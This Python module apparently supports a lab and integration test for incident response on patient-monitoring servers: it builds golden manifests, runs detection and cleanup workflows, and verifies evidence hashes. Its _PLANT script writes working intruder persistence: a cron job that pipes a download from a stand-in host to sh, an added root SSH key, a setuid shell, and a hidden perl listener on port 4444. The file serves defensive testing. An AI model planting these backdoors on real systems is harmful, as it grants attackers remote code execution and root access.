"""The six servers of patient monitoring: what a sound one has, what an intruder leaves on one, and how both are asked about.

Used by the demonstration and by the integration test. Evidence is verified here with Python's own hashes, on the host's disk.
"""

import hashlib
import json
import os

from namespaces import LabError, wait_for
from running_site import OK, PARTIAL, ROOT

SERVERS = tuple(f"srv-monitor-{number}" for number in range(1, 7))
VISITED = "srv-monitor-4"
CASE = "srv-monitor-4-1"
_EXAMPLE = os.path.join(ROOT, "examples", "hr1-mini")
ARTIFACTS = tuple(os.path.join(_EXAMPLE, f"monitoring-servers.{kind}") for kind in ("profile.json", "yar"))

# Public halves; the private ones were never made. The profile knows the first.
ADMINISTRATOR = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIMTy+G/ilarQE/OFjX5lF8CQG/ZSsuodPfvYpw9idFo administrator"
INTRUDER = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINuF8IoDDWq/0uG7y7TvdJFOiHv2fyL30X7tXRowDWAY root@localhost"

KEYS, CRON, SUID = "/root/.ssh/authorized_keys", "/etc/cron.d/sysstat-update", "/usr/local/sbin/mon-probe"
SERVICE, PROGRAM, PORT = "/etc/sv/net-helper/run", "/dev/shm/.net/kworker", 4444
# What each way back shows of itself; nothing else may be found.
WAYS = {"a job of cron": {("cron", CRON), ("yara", CRON)},
        "a service, and its program in memory that listens": {("runit_service", SERVICE), ("hidden_program", PROGRAM),
                                                              ("listener", PROGRAM)},
        "a key": {("authorized_key", KEYS)},
        "a shell with root's rights": {("suid", SUID)}}
TRACES = set().union(*WAYS.values())

_ADMIT = 'mkdir -p -m 700 /root/.ssh && printf "%s\\n" "$1" >/root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys'
_PLANT = r"""
set -eu
key=$1 cron=$2 suid=$3 service=$4 program=$5 port=$6
printf '# reprise-lab-intruder\n*/5 * * * * root curl -s http://198.51.100.7/u | sh\n' >"$cron"
printf '%s\n' "$key" >>/root/.ssh/authorized_keys
cp /usr/bin/dash "$suid" && chmod 4755 "$suid"
mkdir -p "${program%/*}" "${service%/*}"
cp /usr/bin/perl "$program"
cat >"$service" <<RUN
#!/bin/sh
exec $program -MIO::Socket::INET -e 'my \$s = IO::Socket::INET->new(Listen => 5, LocalPort => $port) or die; sleep 3 while 1'
RUN
chmod 755 "$service"
ln -s "${service%/run}" /etc/service/
"""
# Of a server that was made anew from the same image: what no package vouches for, and what starts things.
_GOLDEN = r"""
set -eu
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
printf '%s\n' "$1" >"$work/passed_over"
set --
while read -r path; do set -- "$@" -o -path "$path"; done <"$work/passed_over"
cat /var/lib/dpkg/info/*.md5sums | sed -E 's|^[^ ]+  |/|; s#^/(bin|sbin|lib|lib32|lib64)/#/usr/\1/#' | sort -u >"$work/vouched"
{ find /usr /etc/apt/apt.conf.d /etc/cron.* /etc/init.d /etc/ld.so.conf.d /etc/logrotate.d /etc/pam.d /etc/profile.d /etc/sv \
    /etc/systemd -xdev \( -path '*/supervise' "$@" \) -prune -o -type f ! -name '*.pyc' -print
  find /root -maxdepth 1 -type f; } | sort -u | comm -23 - "$work/vouched" | tr '\n' '\0' | xargs -0 -r sha256sum --
"""
# Hosts of a lab see this machine's own files: compilers, clouds and all. Of /usr/lib a server has these.
_SERVERS_OWN = ("apt", "dpkg", "init", "modules-load.d", "openssh", "runit", "runit-helper", "systemd", "tmpfiles.d", "udev",
                "x86_64-linux-gnu")
_LARGE, _MOST = 4 << 20, 250  # An action's list holds 256.


def passed_over():
    """What a check of lab hosts leaves out, for its time's sake: what servers of this kind do not have. Said in its notes."""
    folders = ["/root", "/usr/include", "/usr/share", "/usr/src",
               *_others("/", ("bin", "boot", "dev", "etc", "home", "lib", "lib32", "lib64", "libx32", "media", "mnt", "opt", "proc",
                              "root", "run", "sbin", "srv", "sys", "tmp", "usr", "var")),
               *_others("/usr/local", ("bin", "sbin")), *_others("/usr/lib", _SERVERS_OWN),
               *_others("/usr/lib/x86_64-linux-gnu", ("perl", "perl-base", "security", "systemd"))]
    large = [(each.stat().st_size, each.path) for folder in ("/usr/bin", "/usr/lib/x86_64-linux-gnu") for each in os.scandir(folder)
             if each.is_file(follow_symlinks=False) and each.stat().st_size > _LARGE]
    return [*sorted(folders), *(path for _, path in sorted(large, reverse=True))][:_MOST]


def _others(folder, but):
    return [each.path for each in os.scandir(folder) if each.is_dir(follow_symlinks=False) and each.name not in but]


class MonitoringServers:
    """In a lab, as the people of a site see them. `reference`: a host of the same image that nobody visited."""

    def __init__(self, lab, site, reference):
        self._lab, self._site, self._reference = lab, site, reference
        self._passed_over = passed_over()

    # ---- before ----

    def settle(self):
        """As they stood in the wards: the administrator may log in."""
        for name in (*SERVERS, self._reference):
            self._lab.host(name).run("sh", "-c", _ADMIT, "admit", ADMINISTRATOR)

    def enrol(self):
        for token in self._site.ask("alice", "host", "token", *SERVERS)["tokens"]:
            self._lab.host(token["host"]).join(f"{self._site.address}:{self._site.join_port}", token["join_code"])
        wait_for(lambda: set(SERVERS) <= {host["name"] for host in self._site.ask("bob", "host", "ls")["hosts"] if host["connected"]},
                 "six servers to connect", 30)
        self._site.reprise("alice", "host", "admit", *SERVERS, "--zone", "biomedical", "--trust", "suspect", show=True)

    def publish(self):
        """What checks are held against: the golden manifest, the profile, the rules."""
        golden = os.path.join(self._site.folder, "golden.sha256")
        text = self._lab.host(self._reference).run("sh", "-c", _GOLDEN, "golden", "\n".join(self._passed_over))
        with open(golden, "w", encoding="utf-8") as file:
            file.write(text)
        self._site.reprise("alice", "artifact", "add", golden, *ARTIFACTS, show=True)
        return text.count("\n")

    def plant(self):
        """Four ways back, as an intruder leaves them. The program listens when this returns."""
        host = self._lab.host(VISITED)
        host.run("sh", "-c", _PLANT, "plant", INTRUDER, CRON, SUID, SERVICE, PROGRAM, str(PORT))
        wait_for(self.listens, "the intruder's program to listen", 20)

    # ---- asked on the host itself, without Reprise ----

    def listens(self):
        host = self._lab.host(VISITED)
        return f":{PORT:04X} " in host.run("cat", "/proc/net/tcp")

    def planted(self):
        """The ways back that are open."""
        host = self._lab.host(VISITED)
        script = {"a job of cron": f"test -e {CRON}", "a key": f"grep -qF '{INTRUDER.split()[1]}' {KEYS}",
                  "a shell with root's rights": f"test -u {SUID}",
                  "a service, and its program in memory that listens": f"test -e {SERVICE} -o -e {PROGRAM}"}
        return {way for way, question in script.items() if host.attempt("sh", "-c", question)[0] == 0}

    def administrator_remains(self):
        return self._lab.host(VISITED).run("cat", KEYS) == ADMINISTRATOR + "\n"

    def evidence(self):
        """Of the bundle on the host's disk: the manifest's own SHA-256, and everything that is not as it says."""
        folder = self._lab.host(VISITED).layer.path(f"var/lib/reprise-evidence/{CASE}")
        with open(os.path.join(folder, "MANIFEST"), "rb") as file:
            manifest = file.read()
        wrong, listed = [], set()
        for line in manifest.decode().splitlines():
            digest, size, path = line.split("  ", 2)
            listed.add(path)
            try:
                with open(os.path.join(folder, path), "rb") as file:
                    content = file.read()
            except OSError as error:
                wrong.append(f"{path}: {error.strerror}")
                continue
            if (hashlib.sha256(content).hexdigest(), len(content)) != (digest, int(size)):
                wrong.append(f"{path}: another content")
        there = {os.path.relpath(os.path.join(base, name), folder) for base, _, names in os.walk(folder) for name in names}
        wrong += [f"{path}: not listed" for path in there - listed - {"MANIFEST"}]
        return hashlib.sha256(manifest).hexdigest(), sorted(wrong), listed

    def evidence_by_hand(self):
        """The same with the command of docs/OPERATIONS.md, on the server: its exit code, and what it said."""
        return self._lab.host(VISITED).attempt(
            "sh", "-ec", f"cd /var/lib/reprise-evidence/{CASE} && sha256sum MANIFEST && "
            r"sed -E 's/^([0-9a-f]{64})  [0-9]+  /\1  /' MANIFEST | sha256sum -c --quiet")

    # ---- runs ----

    def plan(self, workflow, *settings):
        """Its name, and how many must sign it."""
        return self._site.plan("bob", workflow, "exclude=" + ",".join(self._passed_over), *settings)

    def plan_cleaning(self, ids, case=CASE):
        return self.plan("monitoring-servers", f"server={VISITED}", f"case={case}", f"findings={','.join(ids)}")

    def start(self, plan, signers):
        for name in signers:
            self._site.reprise(name, "approve", plan)
        return self._site.ask("bob", "run", "start", plan)["id"]

    def check(self):
        """A look at all six: the run."""
        plan, needed = self.plan("monitoring-check")
        if needed:
            raise LabError("a check that only reads wants a signature")
        run = self.start(plan, ())
        self._site.wait_run(run, ("succeeded", "partial", "failed"), 180)
        return run

    def findings(self, run, stage="check"):
        """From a server to what its check found: [{id, kind, path, …}]; None: it gave no answer."""
        return {host: self._observed(target).get("findings") for host, target in self._site.targets(run, stage).items()}

    def manifest_sha256(self, run):
        """As the step that took the evidence said it."""
        step = self._site.targets(run, "evidence")[VISITED]["steps"][0]
        return step["reason"].rpartition("manifest ")[2] or json.loads(step["evidence_json"])["summary"].rpartition("manifest ")[2]

    def clean_up(self, ids):
        """The plan that takes these findings away, signed by two and begun: it waits at its first gate when the evidence is taken."""
        run = self.start(self.plan_cleaning(ids)[0], ("alice", "carol"))
        self.wait_gate(run, "evidence-is-kept")
        return run

    def wait_gate(self, run, name, seconds=120):
        wait_for(lambda: self._site.gate(run, name)["state"] == "ready", lambda: self._site.outline(run, [f"at gate {name}"]), seconds,
                 every=0.2)

    def target(self, run, stage, *states, seconds=120):
        """The visited server's target in a stage, once it is in one of these states."""
        def look():
            target = self._site.targets(run, stage)[VISITED]
            return target if target["state"] in states else None
        return wait_for(look, lambda: self._site.outline(run, states), seconds, every=0.2)

    def waits_with(self, run, code, seconds=30):
        """Why the cleaning does not begin."""
        def look():
            target = self._site.targets(run, "clean")[VISITED]
            return target["reason"] if target["code"] == code else None
        return wait_for(look, lambda: self._site.outline(run, [f"held back with {code}"]), seconds, every=0.2)

    def clean(self):
        """How many servers are, by the newest word of each: (of them, of all)."""
        coverage = self._site.ask("bob", "coverage", "--claim", "sanitize.clean", "--selector", "labels.service == patient-monitoring",
                                  codes=(OK, PARTIAL))
        return coverage["holds"], coverage["inventory"]

    @staticmethod
    def _observed(target):
        said = [json.loads(step["evidence_json"]) for step in target["steps"] if step["evidence_json"]]
        return said[0].get("observed", {}) if said else {}
